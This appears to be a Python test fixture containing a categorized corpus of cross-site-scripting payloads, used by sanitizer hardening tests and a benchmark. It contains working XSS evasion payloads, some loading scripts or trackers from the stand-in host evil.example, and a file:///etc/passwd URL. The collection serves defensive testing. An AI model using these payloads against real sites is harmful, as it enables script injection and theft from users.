"""A corpus of cross-site-scripting payloads, grouped by the trick each one plays.

Every payload that would run script does so by calling ``alert``/``confirm``/
``prompt`` (a dialog the browser test listens for) or by setting
``window.__pwned`` (read back after load), and every payload that would make
a request points at ``evil.example`` (seen by ``page.on("request")``). So a
payload that slips through is *observed*, not merely pattern-matched.

Shared by ``tests/hardening`` (fast checks and the Chromium run) and
``benchmarks/reliability.py`` (which reports how many were tried).
"""

from __future__ import annotations

PWN = "window.__pwned=1"

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    f"<script>{PWN}</script>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script\x20type=\"text/javascript\">alert(1)</script>",
    "<script>document.write('<img src=//evil.example/w>')</script>",
    "</script><!--<script>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    f"<img src=x onerror={PWN}>",
    "<img src=x onerror=\"alert('x')\">",
    "<img src=\"x\" onerror=\"&#97;lert(1)\">",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a onclick=alert(1) href=#>click</a>",
    "<object data=x onerror=alert(1)></object>",
    "<style onload=alert(1)></style>",
    "<div style=\"animation-name:x\" onanimationstart=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src/onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "x\" onerror=\"alert(1)\" y=\"",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
]

#: URLs that run script or smuggle content when followed or loaded.
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\x00script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https://evil.example/\"><script>alert(1)</script>",
    "https://evil.example/' onmouseover='alert(1)",
    "http://evil.example/x?<script>alert(1)</script>",
    "jav&#x09;ascript:alert(1)",
]

SVG_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
]

BROKEN_NESTED = [
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<a href=\"\"\"><script>alert(1)</script>",
    "<div <script>alert(1)</script>>",
    "<<img src=x onerror=alert(1)//<",
    "<img src=x onerror=alert(1)//",
    "<iframe src=\"javascript:alert(1)\">",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
    "<embed src=javascript:alert(1)>",
    "<object data=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
    "<p style=\"x:expression(alert(1))\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<table background=\"javascript:alert(1)\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    "\u2028\u2029</script><script>alert(1)</script>",
    "<img src=x onerror=\"\u0061lert(1)\">",
    "<scri\x00pt>alert(1)</scri\x00pt>",
]

MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( javascript:alert(1) )",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "![img](javascript:alert(1))",
    "![img](https://evil.example/tracker.png)",
    "![img](//evil.example/tracker.png)",
    "![x\" onerror=\"alert(1)](x.png)",
    "[x](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "![ref][img]\n\n[img]: https://evil.example/x.png",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=\"alert(1)>",
    "[a](javascript:alert`1`)",
    "[a](javas%63ript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "**<svg onload=alert(1)>**",
    "[x](#\" onclick=\"alert(1))",
    "<a href=\"javascript:alert(1)\">raw link</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">entity link</a>",
]

#: Payloads grouped by category, in a fixed order.
CATEGORIES: dict[str, list[str]] = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "dangerous URLs": URLS,
    "SVG/MathML": SVG_MATHML,
    "broken/nested tags": BROKEN_NESTED,
    "Markdown tricks": MARKDOWN,
}

ALL: list[str] = [p for group in CATEGORIES.values() for p in group]


def yaml_safe(payload: str) -> str:
    """The payload minus characters YAML cannot carry at all (NUL and other C0 controls).

    YAML 1.1 refuses them even quoted; the fast tests check the store rejects
    them with a clear error, and the corpus keeps a printable twin.
    """
    return "".join(c for c in payload if c in "\t\n" or ord(c) >= 0x20)
